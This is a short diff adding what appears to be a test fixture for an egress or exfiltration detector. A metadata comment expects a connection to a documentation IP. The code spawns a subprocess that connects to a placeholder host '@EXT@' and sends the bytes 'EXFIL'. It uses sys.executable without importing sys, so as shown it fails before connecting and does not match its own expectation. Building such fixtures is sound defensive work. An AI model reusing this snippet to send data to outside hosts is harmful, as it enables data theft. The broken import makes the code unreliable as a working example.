@@ -1,0 +1,4 @@
+#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
+import socket
+import subprocess
+subprocess.run([sys.executable, "-c", "import socket; s = socket.create_connection(('@EXT@', 443)); s.sendall(b'EXFIL')"])
